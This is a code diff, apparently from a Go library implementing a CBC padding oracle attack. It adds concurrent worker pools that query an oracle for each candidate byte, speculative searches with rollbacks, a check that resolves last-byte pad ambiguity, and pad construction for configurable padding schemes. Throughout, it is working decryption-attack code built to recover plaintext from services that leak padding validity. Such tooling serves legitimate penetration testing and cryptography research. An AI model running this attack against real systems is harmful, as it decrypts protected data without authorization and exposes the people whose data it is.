+func searchSequential(prev, current []byte, q Poracle, mi []byte, p int, l Logger, cfg *config) (byte, error) {
+	for _, g := range candidates(prev, mi, p, cfg) {
+		ok, err := tryCandidate(q, cfg, prev, current, mi, p, g)
+		if err != nil {
+			return 0, err
+		}
+		if ok {
+			l.Printf("\ndecrypted byte %d value: %d", p, g)
+			return g, nil
+		}
+	}
+	return 0, ErrNoValidByte
+}
+
+// maxRollbacks is the maximum number of times the speculative search of the
+// bytes of a block can be rolled back.
+const maxRollbacks = 3
+
+// positionSearch is the search of the value that produces a valid pad for the
+// byte at a given position of a block, performed by a pool of oracleWorkers.
+type positionSearch struct {
+	p         int
+	val       byte
+	done      chan checkValueRes
+	aggregate bool
+}
+
+func startPositionSearch(prev, current []byte, q Poracle, mi []byte, p int, l Logger, cfg *config) *positionSearch {
+	// Generate a channel with values from 0 to 255.
+	var values = make(chan byte, 256)
+	for _, g := range candidates(prev, mi, p, cfg) {
+		values <- g
+	}
+	close(values)
+
+	// The workers can outlive the search when it's speculative, so they
+	// need their own copy of the bytes decrypted so far.
+	known := make([]byte, len(mi))
+	copy(known, mi)
+
+	// Create workers.
+	var wg sync.WaitGroup
+	ctx, cancel := context.WithCancel(cfg.attackContext())
+	// Each worker sends at most one result, so none of them blocks when the
+	// search is abandoned.
+	done := make(chan checkValueRes, cfg.concurrency)
+	for i := 0; i < cfg.concurrency; i++ {
+		wg.Add(1)
+		w := oracleWorker{ctx, cancel, &wg, prev, current, q, known, p, values, done, l, cfg}
+		go w.checkValuePad()
+	}
 
-		// Wait until all the workers have finished.
+	// Close the done channel when all the workers have finished.
+	go func() {
 		wg.Wait()
+		cancel()
 		close(done)
+	}()
+	return &positionSearch{p: p, done: done, aggregate: cfg.aggregateErrors}
+}
 
-		// Get the results from the done channel.
-		var val byte
-		found := false
-		for res := range done {
-			if res.Err != nil {
-				return nil, res.Err
-			}
-			val = res.Res
-			found = true
+// result waits until all the workers have finished and returns the value
+// found.
+func (s *positionSearch) result() (byte, error) {
+	found := false
+	for res := range s.done {
+		if res.Err != nil {
+			return 0, s.fail(res.Err)
 		}
-		if !found {
-			return nil, errors.New("no byte found after a valid attempt")
+		s.val = res.Res
+		found = true
+	}
+	if !found {
+		return 0, ErrNoValidByte
+	}
+	return s.val, nil
+}
+
+// first returns the first value found without waiting for the queries in
+// flight of the other workers.
+func (s *positionSearch) first() (byte, error) {
+	res, open := <-s.done
+	if !open {
+		return 0, ErrNoValidByte
+	}
+	if res.Err != nil {
+		return 0, s.fail(res.Err)
+	}
+	s.val = res.Res
+	return s.val, nil
+}
+
+// confirm waits until all the workers of a search, whose first value has
+// already been returned, have finished. It returns false if any of them found
+// a different value.
+func (s *positionSearch) confirm() (bool, error) {
+	for res := range s.done {
+		if res.Err != nil {
+			return false, s.fail(res.Err)
+		}
+		if res.Res != s.val {
+			return false, nil
 		}
-		mi[p] = val ^ prev[p] ^ (byte(CipherBlockLen) - byte(p))
 	}
-	return mi, nil
+	return true, nil
+}
+
+// fail returns the error to report after a worker returned the given error.
+// When the errors are aggregated, it waits for the rest of the workers and
+// collects their errors too.
+func (s *positionSearch) fail(err error) error {
+	if !s.aggregate {
+		return err
+	}
+	errs := []error{err}
+	for res := range s.done {
+		if res.Err != nil {
+			errs = append(errs, res.Err)
+		}
+	}
+	return aggregate(s.p, errs)
 }
 
 type checkValueRes struct {
@@ -147,7 +970,8 @@ type oracleWorker struct {
 	p             int
 	read          <-chan byte
 	done          chan<- checkValueRes
-	l             *log.Logger
+	l             Logger
+	cfg           *config
 }
 
 func (o oracleWorker) checkValuePad() {
@@ -159,15 +983,13 @@ LOOP:
 			if !open {
 				break LOOP
 			}
-			cg := buildPad(o.p, byte(g), o.prev, o.mi)
-			try := append(cg, o.current...)
-			res, err := o.querier.Do(try)
+			ok, err := tryCandidate(o.querier, o.cfg, o.prev, o.current, o.mi, o.p, g)
 			if err != nil {
 				o.done <- checkValueRes{Err: err}
 				o.cancel()
 				break LOOP
 			}
-			if res > 0 {
+			if ok {
 				o.done <- checkValueRes{Res: g}
 				o.l.Printf("\ndecrypted byte %d value: %d", o.p, g)
 				o.cancel()
@@ -179,22 +1001,56 @@ LOOP:
 	}
 }
 
-func buildPad(p int, g byte, c []byte, m []byte) []byte {
-	pad := byte(CipherBlockLen) - byte(p)
-	rg := make([]byte, CipherBlockLen)
-	fill := pad
-	for i := CipherBlockLen - 1; i >= 0; i-- {
-		if fill < 1 {
-			rg[i] = c[i]
-			continue
+// tryCandidate queries the oracle to check if the candidate g for the byte at
+// the position p of the block produces a valid pad.
+func tryCandidate(q Poracle, cfg *config, prev, current, mi []byte, p int, g byte) (bool, error) {
+	cg := buildPad(cfg.padding, cfg.padEnd(), p, g, prev, mi)
+	res, err := q.Do(cfg.buildProbe(cg, current))
+	if err != nil {
+		return false, err
+	}
+	// The ambiguity of the last byte is resolved by exploring the branches
+	// when WithAmbiguityDepth is used.
+	if res > 0 && p == cfg.padEnd() && cfg.ambiguityDepth == 0 {
+		res, err = confirmLastByte(q, cfg, cg, current)
+		if err != nil {
+			return false, err
 		}
-		if p == i {
+	}
+	cfg.trace.try(p, g, res > 0)
+	return res > 0, nil
+}
+
+// confirmLastByte checks that a candidate for the last byte of a block that
+// produced a valid pad, produced the pad 0x01. Apart from 0x01, the candidate
+// can produce longer valid pads, like 0x02 0x02, when the bytes before the last
+// one happen to have the right values. To distinguish between them, the byte
+// before the last one is modified and the oracle is queried again: a pad
+// longer than one byte includes the modified byte, so it becomes invalid,
+// while the pad 0x01 remains valid. This makes the recovery of the last byte
+// deterministic for any plaintext.
+func confirmLastByte(q Poracle, cfg *config, cg, current []byte) (int, error) {
+	confirm := make([]byte, len(cg))
+	copy(confirm, cg)
+	confirm[cfg.padEnd()-1] ^= 0x01
+	return q.Do(cfg.buildProbe(confirm, current))
+}
+
+// buildPad returns the block that, placed before the attacked one, produces a
+// pad from the position p to the position end when the candidate g is the
+// right one. The bytes after the end are left untouched.
+func buildPad(s PaddingScheme, end, p int, g byte, c []byte, m []byte) []byte {
+	n := end - p + 1
+	rg := make([]byte, len(c))
+	for i := len(c) - 1; i >= 0; i-- {
+		switch {
+		case i < p || i > end:
+			rg[i] = c[i]
+		case i == p:
 			rg[i] = g
-		} else {
-			rg[i] = pad ^ m[i] ^ c[i]
+		default:
+			rg[i] = s.PadByte(n, i-p) ^ m[i] ^ c[i]
 		}
-
-		fill--
 	}
 	return rg
 }